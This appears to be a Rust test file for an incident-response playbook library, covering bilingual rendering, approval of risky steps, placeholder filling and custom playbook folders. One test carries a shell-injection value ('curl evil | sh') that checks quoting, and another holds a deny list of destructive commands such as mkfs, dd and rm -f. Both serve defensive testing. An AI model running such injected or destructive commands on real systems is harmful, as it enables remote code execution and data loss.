//! What every playbook of the library must be, and how a user's folder changes it.
#![allow(clippy::unwrap_used, reason = "tests")]

use std::{
    collections::{BTreeMap, BTreeSet},
    fs,
    path::Path,
};

use super::{
    Facts, Library, PlaybookError, RenderedPlaybook, library,
    model::{Risk, StepKind},
    to_markdown,
};
use crate::types::{issue, lang::Lang};

fn facts(target: Option<&str>, values: &[(&str, &str)]) -> Facts {
    Facts { target: target.map(str::to_owned), values: values.iter().map(|(k, v)| ((*k).to_owned(), (*v).to_owned())).collect() }
}

fn all(lang: Lang) -> Vec<RenderedPlaybook> {
    let library = Library::builtin().unwrap();
    library.ids().iter().map(|id| library.render(id, lang, &Facts::default()).unwrap()).collect()
}

fn commands(playbook: &RenderedPlaybook, step: &str) -> Vec<String> {
    playbook.steps.iter().find(|s| s.id == step).unwrap().commands.iter().map(|c| c.run.clone()).collect()
}

/// Where a step may lead after success or failure.
fn nexts(playbook: &RenderedPlaybook, index: usize) -> [String; 2] {
    let step = &playbook.steps[index];
    let following = playbook.steps.get(index + 1).map_or("done", |s| s.id.as_str());
    [step.on_pass.as_deref().unwrap_or(following).to_owned(), step.on_fail.as_deref().unwrap_or(following).to_owned()]
}

#[test]
fn every_folder_is_in_the_list_and_every_lead_has_a_playbook() {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("src/playbook/library");
    let on_disk: BTreeSet<String> =
        fs::read_dir(folder).unwrap().map(Result::unwrap).filter(|e| e.path().is_dir()).map(|e| e.file_name().into_string().unwrap()).collect();
    assert_eq!(library::ALL.iter().map(|s| s.id.to_owned()).collect::<BTreeSet<_>>(), on_disk);
    for id in issue::playbooks().chain([issue::FALLBACK_PLAYBOOK]) {
        assert!(on_disk.contains(id), "{id}");
    }
}

#[test]
fn both_languages_are_complete_and_differ() {
    for (en, zh) in all(Lang::En).into_iter().zip(all(Lang::Zh)) {
        assert_eq!((en.lang, zh.lang), (Lang::En, Lang::Zh));
        assert!((7..=12).contains(&en.steps.len()), "{}", en.id);
        assert_eq!(en.steps.len(), zh.steps.len());
        let han = |text: &str| text.chars().any(|c| ('\u{4e00}'..='\u{9fff}').contains(&c));
        for (e, z) in en.steps.iter().zip(&zh.steps) {
            assert_eq!(e.id, z.id);
            for (en, zh) in [(&e.title, &z.title), (&e.text, &z.text), (&e.expect, &z.expect), (&e.if_not, &z.if_not)] {
                assert!(!han(en) && han(zh), "{} {}: {en} / {zh}", z.id, e.id);
            }
            assert_eq!(e.commands, z.commands);
        }
    }
}

#[test]
fn texts_name_only_steps_and_playbooks_that_exist() {
    let words_of_the_field = ["pg_wal", "native_memory", "log_lock_waits"];
    for playbook in all(Lang::En).into_iter().chain(all(Lang::Zh)) {
        let known: Vec<&str> = playbook.steps.iter().map(|s| s.id.as_str()).chain(library::ALL.iter().map(|s| s.id)).chain(words_of_the_field).collect();
        for step in &playbook.steps {
            for word in step.if_not.split(|c: char| !c.is_ascii_alphanumeric() && c != '_').filter(|w| w.contains('_')) {
                assert!(known.contains(&word), "{} {}: {word}", playbook.id, step.id);
            }
        }
    }
}

#[test]
fn risky_steps_ask_first_and_come_after_a_look() {
    for playbook in all(Lang::En) {
        assert_eq!(playbook.steps[0].kind, StepKind::Observe, "{}", playbook.id);
        for step in &playbook.steps {
            assert!(step.risk < Risk::Disruptive || step.approval, "{} {}", playbook.id, step.id);
            assert_eq!(step.kind == StepKind::Act, step.risk > Risk::Read, "{} {}", playbook.id, step.id);
        }
    }
}

#[test]
fn every_step_can_be_reached_and_no_act_is_done_without_a_proof() {
    for playbook in all(Lang::En) {
        let index: BTreeMap<&str, usize> = playbook.steps.iter().enumerate().map(|(i, s)| (s.id.as_str(), i)).collect();
        let walk = |start: usize, through: &dyn Fn(usize) -> bool| {
            let (mut seen, mut open, mut done) = (BTreeSet::from([start]), vec![start], false);
            while let Some(at) = open.pop() {
                for next in nexts(&playbook, at) {
                    done |= next == "done";
                    if let Some(&next) = index.get(next.as_str()).filter(|next| through(**next) && seen.insert(**next)) {
                        open.push(next);
                    }
                }
            }
            (seen, done)
        };
        let rollbacks = playbook.steps.iter().filter(|s| s.rollback.is_some()).count();
        assert!(walk(0, &|_| true).0.len() + rollbacks >= playbook.steps.len(), "{}: a step cannot be reached", playbook.id);
        for (at, step) in playbook.steps.iter().enumerate().filter(|(_, s)| s.kind == StepKind::Act) {
            let no_proof = |next: usize| playbook.steps[next].kind != StepKind::Verify;
            assert!(!walk(at, &no_proof).1, "{} {}: done without a verify step", playbook.id, step.id);
        }
    }
}

/// A value is quoted as a whole, so a template that puts its own quotes around it would break it.
#[test]
fn no_command_puts_quotes_around_a_variable() {
    for (playbook, step, run) in library::ALL.iter().flat_map(|source| {
        let parsed: toml::Table = toml::from_str(source.steps).unwrap();
        let steps = parsed["step"].as_array().unwrap().clone();
        steps.into_iter().flat_map(move |step| {
            let runs = step.get("command").and_then(|c| c.as_array()).cloned().unwrap_or_default();
            let id = step["id"].as_str().unwrap().to_owned();
            runs.into_iter().map(move |c| (source.id, id.clone(), c["run"].as_str().unwrap().to_owned()))
        })
    }) {
        let mut quotes: Vec<char> = Vec::new();
        let text: Vec<char> = run.chars().collect();
        for (i, &c) in text.iter().enumerate() {
            let previous = if i > 0 { text[i - 1] } else { ' ' };
            match (quotes.last(), c) {
                (Some('\''), '\'') | (Some('"'), '"') | (Some(')'), ')') => drop(quotes.pop()),
                (Some('\''), _) if c != '{' => {}
                (Some('"'), '\'') => {}
                (_, '\'' | '"') => quotes.push(c),
                (_, '(') if previous == '$' => quotes.push(')'),
                (Some('\'' | '"'), '{') => assert_ne!(text.get(i + 1), Some(&'{'), "{playbook} {step}: {run}"),
                _ => {}
            }
        }
    }
}

#[test]
fn commands_do_nothing_reckless() {
    for playbook in all(Lang::En) {
        for command in playbook.steps.iter().flat_map(|s| &s.commands) {
            for bad in
                ["rm -r", "rm -f", "-delete", "system prune", "prune -f", "--force", "kill -9", "FLUSH", "mkfs", "dd if", "--volumes", "PGPASSWORD", "--pass"]
            {
                assert!(!command.run.contains(bad), "{}: {}", playbook.id, command.run);
            }
        }
    }
}

#[test]
fn without_facts_all_variants_show_placeholders() {
    let playbook = Library::builtin().unwrap().render("service_down", Lang::En, &Facts::default()).unwrap();
    let restart = commands(&playbook, "restart_service");
    assert_eq!(restart.len(), 3);
    assert!(restart.contains(&"sudo systemctl restart <unit>".to_owned()));
    for name in ["unit", "namespace", "deployment", "container", "health_url", "target", "log_path"] {
        assert!(playbook.missing_values.iter().any(|m| m == name), "{name}");
    }
}

#[test]
fn with_facts_only_what_the_target_has_is_shown() {
    let library = Library::builtin().unwrap();
    let known = facts(Some("orders"), &[("unit", "orders.service"), ("health_url", "http://h/x?a=1&b=2"), ("log_path", "/var/log/o.log")]);
    let playbook = library.render("service_down", Lang::Zh, &known).unwrap();
    assert_eq!(commands(&playbook, "restart_service"), ["sudo systemctl restart orders.service"]);
    assert!(commands(&playbook, "verify_function")[0].contains(" 'http://h/x?a=1&b=2';"));
    // No value for the port, and none is needed, since another command of the step is fully known.
    assert_eq!(playbook.missing_values, Vec::<String>::new());
    // Rolling back has commands for Kubernetes only, which this target is not on.
    assert_eq!(commands(&playbook, "roll_back"), Vec::<String>::new());
    // Its database is not known, which does not mean that it has none.
    let slow = library.render("high_latency", Lang::En, &known).unwrap();
    assert!(commands(&slow, "check_database").iter().all(|c| c.contains("-h <pghost>")));
    assert!(slow.missing_values.contains(&"pghost".to_owned()));
    let bare = library.render("service_down", Lang::En, &facts(Some("x"), &[])).unwrap();
    assert_eq!(commands(&bare, "restart_service").len(), 3);
    let json = serde_json::to_value(&playbook).unwrap();
    let plan = json["steps"].as_array().unwrap().iter().find(|s| s["id"] == "choose_action").unwrap().clone();
    assert_eq!(plan["args"], serde_json::json!({"issue_type": "service_unavailable", "target": "orders"}));
    assert_eq!((plan["kind"].as_str(), json["lang"].as_str(), json["target"].as_str()), (Some("decide"), Some("zh"), Some("orders")));
}

#[test]
fn a_command_without_variables_is_shown_only_on_its_platform() {
    let library = Library::builtin().unwrap();
    let kubernetes = library.render("network_issues", Lang::En, &facts(Some("x"), &[("namespace", "n"), ("deployment", "d")])).unwrap();
    assert!(commands(&kubernetes, "restart_network").iter().all(|c| c.starts_with("kubectl")));
    let systemd = library.render("network_issues", Lang::En, &facts(Some("x"), &[("unit", "u")])).unwrap();
    assert!(!commands(&systemd, "restart_network").iter().any(|c| c.contains("kubectl")));
}

#[test]
fn a_hostile_value_is_quoted_in_commands_and_left_alone_in_arguments() {
    let evil = "x'; curl evil | sh; '{{ unit }}";
    let playbook = Library::builtin().unwrap().render("service_down", Lang::En, &facts(Some(evil), &[("unit", evil)])).unwrap();
    assert_eq!(commands(&playbook, "restart_service"), [r"sudo systemctl restart 'x'\''; curl evil | sh; '\''{{ unit }}'"]);
    let json = serde_json::to_value(&playbook).unwrap();
    let step = json["steps"].as_array().unwrap().iter().find(|s| s["id"] == "choose_action").unwrap().clone();
    assert_eq!(step["args"]["target"], evil);
}

#[test]
fn markdown_is_in_the_language_and_shows_boxes_and_ways() {
    let library = Library::builtin().unwrap();
    let en = to_markdown(&library.render("incident_response", Lang::En, &Facts::default()).unwrap());
    for part in [
        "[0-5 min]",
        "[30-120 min]",
        "[0-24 h after resolution]",
        "## Fix for good\n",
        "undo -> `undo_mitigation`",
        "needs approval",
        "`names=[application, database",
    ] {
        assert!(en.contains(part), "{part}\n{en}");
    }
    let zh = to_markdown(&library.render("incident_response", Lang::Zh, &Facts::default()).unwrap());
    for part in ["[5-15 分钟]", "[0-24 小时，自故障解决起]", "需审批", "需自行填写"] {
        assert!(zh.contains(part), "{part}\n{zh}");
    }
}

#[test]
fn schema_has_no_references() {
    let schema = serde_json::to_string(&schemars::schema_for!(RenderedPlaybook)).unwrap();
    assert!(!schema.contains("$ref"), "{schema}");
}

#[test]
fn an_unknown_id_lists_the_known_and_the_nearest() {
    let error = Library::builtin().unwrap().render("servce_down", Lang::En, &Facts::default()).unwrap_err();
    let text = error.to_string();
    assert!(text.contains("incident_response") && text.ends_with("did you mean service_down?"), "{text}");
    assert!(matches!(error, PlaybookError::Unknown { nearest: Some(_), .. }));
}

const STEPS: &str =
    "[[step]]\nid='look'\nkind='observe'\nrisk='read'\ntimeout_seconds=5\non_pass='done'\n[[step.command]]\nplatform='any'\nrun='echo {{ my_own }}'\n";
const EN: &str = "# Mine\nSum.\nWhen: w\nExit: x\nEscalate: e\n## look: Look\nBody.\nExpect: a\nIf not: b\n";

fn folder(id: &str, files: &[(&str, &str)]) -> tempfile::TempDir {
    let root = tempfile::tempdir().unwrap();
    fs::create_dir(root.path().join(id)).unwrap();
    for (name, text) in files {
        fs::write(root.path().join(id).join(name), text).unwrap();
    }
    root
}

#[test]
fn a_folder_adds_and_overrides_whole_playbooks() {
    let root = folder("service_down", &[("steps.toml", STEPS), ("en.md", EN)]);
    fs::create_dir(root.path().join("our_own")).unwrap();
    fs::write(root.path().join("our_own/steps.toml"), STEPS).unwrap();
    fs::write(root.path().join("our_own/en.md"), EN).unwrap();
    fs::write(root.path().join("README.md"), "notes").unwrap();
    fs::create_dir(root.path().join(".git")).unwrap();
    let library = Library::builtin().unwrap().with_folder(root.path()).unwrap();
    assert_eq!(library.ids().len(), library::ALL.len() + 1);
    let list = library.list(Lang::Zh);
    assert_eq!((list[0].id.as_str(), list[0].title.as_str(), list[0].steps), ("service_down", "Mine", 1));
    assert_eq!(list.last().unwrap().id, "our_own");
    let playbook = library.render("our_own", Lang::Zh, &facts(Some("t"), &[("my_own", "v")])).unwrap();
    assert_eq!((playbook.lang, commands(&playbook, "look")), (Lang::En, vec!["echo v".to_owned()]));
}

#[test]
fn a_bad_folder_is_refused_and_the_file_named() {
    let big = "#".repeat(256 * 1024 + 1);
    let step = |from: &str, to: &str| STEPS.replace(from, to);
    let cases: &[(&str, &str, &str, &[&str])] = &[
        ("mine", "nonsense", EN, &["mine/steps.toml"]),
        ("mine", &step("on_pass", "onpass"), EN, &["mine/steps.toml", "onpass"]),
        ("mine", &step("'done'", "'gone'"), EN, &["mine/steps.toml", "'look'", "on_pass = 'gone'"]),
        ("mine", &step("on_pass='done'", "rollback='done'"), EN, &["mine/steps.toml", "rollback"]),
        ("mine", &step("'read'", "'destructive'"), EN, &["mine/steps.toml", "approval"]),
        ("mine", &step("{{ my_own }}", "{% if x %}"), EN, &["mine/steps.toml", "plain variables"]),
        ("mine", &format!("{STEPS}{STEPS}"), EN, &["mine/steps.toml", "id of its own"]),
        ("mine", STEPS, &EN.replace("## look", "## other"), &["mine/en.md", "'look'", "no section"]),
        ("mine", STEPS, &EN.replace("Expect: a\n", ""), &["mine/en.md:6", "Expect"]),
        ("mine", &big, EN, &["mine/steps.toml", "262144"]),
        ("mine", STEPS, &big, &["mine/en.md", "262144"]),
        ("My-Own", STEPS, EN, &["My-Own", "snake_case"]),
    ];
    for (id, steps, en, wanted) in cases {
        let root = folder(id, &[("steps.toml", steps), ("en.md", en)]);
        let error = Library::builtin().unwrap().with_folder(root.path()).unwrap_err().to_string();
        for part in *wanted {
            assert!(error.contains(part), "{error} should hold {part}");
        }
    }
    let error = Library::builtin().unwrap().with_folder(folder("mine", &[("steps.toml", STEPS)]).path()).unwrap_err().to_string();
    assert!(error.contains("mine") && error.contains("neither en.md nor zh.md"), "{error}");
    let error = Library::builtin().unwrap().with_folder(folder("mine", &[("en.md", EN)]).path()).unwrap_err().to_string();
    assert!(error.contains("no steps.toml"), "{error}");
    assert!(Library::builtin().unwrap().with_folder(Path::new("/does/not/exist")).unwrap_err().to_string().contains("/does/not/exist"));
}
